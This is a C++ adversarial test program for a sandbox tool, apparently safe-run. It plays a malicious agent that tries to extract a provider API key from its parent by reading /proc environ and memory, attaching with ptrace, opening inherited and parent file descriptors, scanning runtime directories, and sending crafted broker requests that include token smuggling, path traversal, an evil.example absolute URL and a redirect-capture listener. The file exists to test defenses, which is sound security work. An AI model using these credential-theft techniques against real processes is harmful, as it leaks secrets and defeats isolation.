// saferun-attacker LOOT_FILE: a malicious agent for the adversarial tests. Run as safe-run's
// child, it tries every way the threat model names to get at the provider key, appends all
// it obtains to LOOT_FILE (the test then searches it for the key's bytes) and prints one
// line per attack: "attack NAME: blocked|obtained|answered STATUS ...".

#include <dirent.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <iostream>
#include <sstream>
#include <string>
#include <vector>

#include "tests/support/raw_http.h"

extern char** environ;

namespace {

using namespace saferun::test;

std::ofstream loot;

void report(const std::string& attack, const std::string& outcome) { std::cout << "attack " << attack << ": " << outcome << std::endl; }

std::string env(const char* name) {
  const char* value = std::getenv(name);
  return value == nullptr ? std::string() : value;
}

// Reads a whole file into the loot; returns the errno of a failed open, 0 on success.
int loot_file(const std::string& path, std::size_t limit = 64u << 20) {
  int fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC | O_NONBLOCK);
  if (fd < 0) return errno;
  char buffer[65536];
  std::size_t total = 0;
  ssize_t n;
  while (total < limit && (n = ::read(fd, buffer, sizeof buffer)) > 0) {
    loot.write(buffer, n);
    total += static_cast<std::size_t>(n);
  }
  int error = n < 0 && total == 0 ? errno : 0;
  ::close(fd);
  return error;
}

void attack_proc_file(const std::string& label, pid_t target, const char* name) {
  int error = loot_file("/proc/" + std::to_string(target) + "/" + name);
  report(label, error == 0 ? "obtained" : std::string("blocked ") + std::strerror(error));
}

// /proc/<pid>/mem read region by region, using maps.
void attack_memory(pid_t target) {
  std::ifstream maps("/proc/" + std::to_string(target) + "/maps");
  int mem = ::open(("/proc/" + std::to_string(target) + "/mem").c_str(), O_RDONLY | O_CLOEXEC);
  if (!maps || mem < 0) {
    report("proc-mem", std::string("blocked ") + std::strerror(errno));
    if (mem >= 0) ::close(mem);
    return;
  }
  std::string line;
  std::size_t read_total = 0;
  while (std::getline(maps, line)) {
    unsigned long start = 0, end = 0;
    char perms[5] = {};
    if (std::sscanf(line.c_str(), "%lx-%lx %4s", &start, &end, perms) != 3 || perms[0] != 'r') continue;
    std::vector<char> region(std::min<unsigned long>(end - start, 64ul << 20));
    auto n = ::pread(mem, region.data(), region.size(), static_cast<off_t>(start));
    if (n > 0) loot.write(region.data(), n), read_total += static_cast<std::size_t>(n);
  }
  ::close(mem);
  report("proc-mem", read_total > 0 ? "obtained " + std::to_string(read_total) + " bytes" : "blocked (nothing readable)");
}

void attack_ptrace(pid_t target) {
  for (auto [request, name] : {std::pair{PTRACE_ATTACH, "ptrace-attach"}, std::pair{PTRACE_SEIZE, "ptrace-seize"}}) {
    if (::ptrace(static_cast<__ptrace_request>(request), target, nullptr, nullptr) == 0) {
      report(name, "obtained (attached)");
      ::ptrace(PTRACE_DETACH, target, nullptr, nullptr);
    } else {
      report(name, std::string("blocked ") + std::strerror(errno));
    }
  }
  char buffer[64];
  iovec local{buffer, sizeof buffer};
  iovec remote{reinterpret_cast<void*>(0x10000), sizeof buffer};
  if (::process_vm_readv(target, &local, 1, &remote, 1, 0) >= 0 || errno == EFAULT) {
    report("process_vm_readv", "obtained (permission granted)");
  } else {
    report("process_vm_readv", std::string("blocked ") + std::strerror(errno));
  }
}

void attack_parent_fds(pid_t target) {
  auto dir = "/proc/" + std::to_string(target) + "/fd";
  DIR* fds = ::opendir(dir.c_str());
  if (fds == nullptr) return report("proc-fd", std::string("blocked ") + std::strerror(errno));
  int opened = 0;
  while (auto* entry = ::readdir(fds)) {
    if (entry->d_name[0] == '.') continue;
    if (loot_file(dir + "/" + entry->d_name, 1u << 20) == 0) ++opened;
  }
  ::closedir(fds);
  report("proc-fd", opened > 0 ? "obtained " + std::to_string(opened) + " fds" : "blocked (listed, none opened)");
}

// Runs first, before the attacker opens anything itself; what it reads waits in `gathered`.
void attack_inherited_fds(std::string& gathered) {
  int extra = 0;
  for (int fd = 3; fd < 1024; ++fd) {
    if (::fcntl(fd, F_GETFD) < 0) continue;
    ++extra;
    char buffer[65536];
    auto n = ::pread(fd, buffer, sizeof buffer, 0);
    if (n <= 0) n = ::read(fd, buffer, sizeof buffer);
    if (n > 0) gathered.append(buffer, static_cast<std::size_t>(n));
  }
  report("inherited-fds", extra == 0 ? "blocked (only 0, 1, 2)" : "obtained " + std::to_string(extra) + " fds");
}

void loot_tree(const std::string& root, int& files) {
  DIR* dir = ::opendir(root.c_str());
  if (dir == nullptr) return;
  while (auto* entry = ::readdir(dir)) {
    std::string name = entry->d_name;
    if (name == "." || name == "..") continue;
    auto path = root + "/" + name;
    struct stat info{};
    if (::lstat(path.c_str(), &info) != 0) continue;
    if (S_ISDIR(info.st_mode)) loot_tree(path, files);
    else if (S_ISREG(info.st_mode) && loot_file(path) == 0) ++files;
  }
  ::closedir(dir);
}

void attack_files() {
  int files = 0;
  for (const auto& root : {env("TMPDIR"), env("XDG_RUNTIME_DIR")})
    if (!root.empty()) loot_tree(root, files);
  // Where safe-run keeps the session's files, whether or not the variable was passed.
  loot_tree("/run/user/" + std::to_string(::getuid()), files);
  report("files", "read " + std::to_string(files) + " files");
}

std::uint16_t broker_port() {
  auto url = env("SAFE_RUN_BROKER_URL");
  return static_cast<std::uint16_t>(std::stoi(url.substr(url.rfind(':') + 1)));
}

void attack_broker(const std::string& name, const std::string& method, const std::string& target, const Headers& headers) {
  auto response = http_request(broker_port(), method, target, headers, "{}");
  loot << response.body;
  for (const auto& [header, value] : response.headers) loot << header << ": " << value << "\n";
  report(name, "answered " + std::to_string(response.status));
}

void attack_redirect(const std::string& token) {
  int listener = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  socklen_t length = sizeof address;
  ::bind(listener, reinterpret_cast<sockaddr*>(&address), sizeof address);
  ::listen(listener, 8);
  ::getsockname(listener, reinterpret_cast<sockaddr*>(&address), &length);
  auto location = "http://127.0.0.1:" + std::to_string(ntohs(address.sin_port)) + "/steal";
  attack_broker("upstream-redirect", "POST", "/anthropic/v1/messages",
                {{"x-api-key", token}, {"x-fake", "redirect"}, {"x-fake-location", location}});
  ::usleep(300000);
  int visitors = 0;
  for (int client; (client = ::accept(listener, nullptr, nullptr)) >= 0; ++visitors) {
    char buffer[65536];
    auto n = ::recv(client, buffer, sizeof buffer, MSG_DONTWAIT);
    if (n > 0) loot.write(buffer, n);
    ::close(client);
  }
  ::close(listener);
  report("redirect-followed", visitors == 0 ? "blocked (nobody came)" : "obtained " + std::to_string(visitors) + " visits");
}

void attack_broker_all() {
  auto token = env("SAFE_RUN_TOKEN");
  auto wrong = token;
  wrong.back() = wrong.back() == 'a' ? 'b' : 'a';
  const std::string messages = "/anthropic/v1/messages";
  attack_broker("broker-no-token", "POST", messages, {});
  attack_broker("broker-wrong-token", "POST", messages, {{"x-api-key", wrong}});
  attack_broker("broker-token-in-api-key", "POST", messages, {{"api-key", token}});
  attack_broker("broker-token-in-goog-header", "POST", messages, {{"x-goog-api-key", token}});
  attack_broker("broker-token-in-proxy-authorization", "POST", messages, {{"proxy-authorization", "Bearer " + token}});
  attack_broker("broker-token-in-query", "POST", messages + "?key=" + token, {});
  attack_broker("broker-off-allowlist", "GET", "/anthropic/v1/files", {{"x-api-key", token}});
  attack_broker("broker-absolute-form", "POST", "http://evil.example/anthropic/v1/messages", {{"x-api-key", token}});
  attack_broker("broker-traversal", "POST", "/anthropic/%2e%2e/anthropic/v1/messages", {{"x-api-key", token}});
  attack_broker("upstream-reflects-headers", "POST", messages, {{"x-api-key", token}, {"x-fake", "reflect"}});
  attack_redirect(token);
  attack_broker("broker-with-token", "POST", messages, {{"x-api-key", token}});
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 2) return 2;
  std::string gathered;
  attack_inherited_fds(gathered);
  loot.open(argv[1], std::ios::binary | std::ios::app);
  loot << gathered;
  for (char** entry = environ; *entry != nullptr; ++entry) loot << *entry << "\n";
  report("own-environment", "read");
  attack_proc_file("own-proc-environ", ::getpid(), "environ");
  const pid_t parent = ::getppid();
  attack_proc_file("proc-environ", parent, "environ");
  attack_proc_file("proc-cmdline", parent, "cmdline");
  attack_memory(parent);
  attack_ptrace(parent);
  attack_parent_fds(parent);
  attack_broker_all();
  attack_files();  // last, so the audit log holds the attempts above
  return 0;
}
